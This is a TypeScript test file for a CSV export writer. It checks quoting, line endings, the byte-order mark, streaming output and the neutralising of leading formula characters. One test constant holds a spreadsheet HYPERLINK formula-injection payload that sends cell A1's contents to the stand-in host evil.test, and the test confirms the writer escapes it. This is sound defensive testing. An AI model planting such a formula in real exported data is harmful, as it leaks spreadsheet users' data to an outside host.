import { PassThrough } from 'node:stream';
import { csvText, writeCsv } from '../../api/export-writers';
import { exportTable } from '../../domain/shared/export-table';
import { readCsvWithPython } from '../support/python-csv';

/** The CSV writer read back by Python's csv module: what a spreadsheet would get, cell by cell. */

interface Row {
  text: string | null;
  number: number | null;
  flag: boolean | null;
  list: unknown;
}
const table = exportTable<Row[], Row>({
  version: 3,
  rowsAre: 'one per row',
  rows: (rows) => rows,
  columns: [
    { key: 'text', type: 'text', description: '', read: (row) => row.text },
    { key: 'number', type: 'number', description: '', read: (row) => row.number },
    { key: 'flag', type: 'boolean', description: '', read: (row) => row.flag },
    { key: 'list', type: 'json', description: '', read: (row) => row.list },
  ],
});

const HOSTILE = '=HYPERLINK("https://evil.test/?q="&A1, "Click"), said "Acme",\nthen a second line\r\nand a third: 日本語の回答、中文。';

test('quotes, commas, line breaks and CJK survive; a leading =, +, -, @, tab or CR is neutralised; numbers stay numbers', () => {
  const rows: Row[] = [
    { text: HOSTILE, number: -3.5, flag: true, list: ['a,"b"', 'c\nd'] },
    { text: '+1 555', number: 0, flag: false, list: { name: 'x' } },
    { text: '-minus', number: -1, flag: null, list: null },
    { text: '@SUM(A1:A2)', number: null, flag: null, list: [] },
    { text: '\tTabbed', number: 1e-7, flag: null, list: null },
    { text: '\rCarriage', number: 12, flag: null, list: null },
    { text: '＝fullwidth', number: 12, flag: null, list: null },
    { text: 'plain - dash inside', number: 12, flag: null, list: null },
    // Nothing but a line break (or a carriage return) to quote: the field is quoted all the same.
    { text: 'first line\nsecond line', number: 12, flag: null, list: null },
    { text: 'old Mac\rline', number: 12, flag: null, list: null },
  ];
  const [header, ...cells] = readCsvWithPython(csvText(table, rows, false));
  expect(header).toEqual(['text', 'number', 'flag', 'list']);
  expect(cells).toHaveLength(rows.length);
  expect(cells[0]).toEqual([`'${HOSTILE}`, '-3.5', 'true', JSON.stringify(['a,"b"', 'c\nd'])]);
  expect(JSON.parse(cells[0]![3]!)).toEqual(['a,"b"', 'c\nd']);
  expect(cells[1]).toEqual(["'+1 555", '0', 'false', '{"name":"x"}']);
  expect(cells[2]).toEqual(["'-minus", '-1', '', '']);
  expect(cells[3]).toEqual(["'@SUM(A1:A2)", '', '', '[]']);
  expect(cells[4]!.slice(0, 2)).toEqual(["'\tTabbed", '1e-7']);
  expect(cells[5]![0]).toBe("'\rCarriage");
  expect(cells[6]![0]).toBe("'＝fullwidth");
  expect(cells[7]![0]).toBe('plain - dash inside');
  expect(cells[8]![0]).toBe('first line\nsecond line');
  expect(cells[9]![0]).toBe('old Mac\rline');
});

test('records end with CRLF (RFC 4180); a byte-order mark only when asked', () => {
  const text = csvText(table, [{ text: 'a', number: 1, flag: true, list: null }], false);
  expect(text).toBe('text,number,flag,list\r\na,1,true,\r\n');
  const marked = csvText(table, [], true);
  expect(Buffer.from(marked).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  expect(readCsvWithPython(marked)).toEqual([['\ufefftext', 'number', 'flag', 'list']]);
});

test('the streaming writer writes the same bytes as the whole-text one, in many chunks', async () => {
  const rows = Array.from({ length: 2000 }, (_, index) => ({
    text: `answer ${index}, "quoted"\nline`,
    number: -index,
    flag: index % 2 === 0,
    list: [index],
  }));
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  await writeCsv(table, rows, false, out);
  expect(chunks.length).toBeGreaterThan(1);
  expect(Buffer.concat(chunks).toString()).toBe(csvText(table, rows, false));
  expect(readCsvWithPython(Buffer.concat(chunks))).toHaveLength(2001);
});
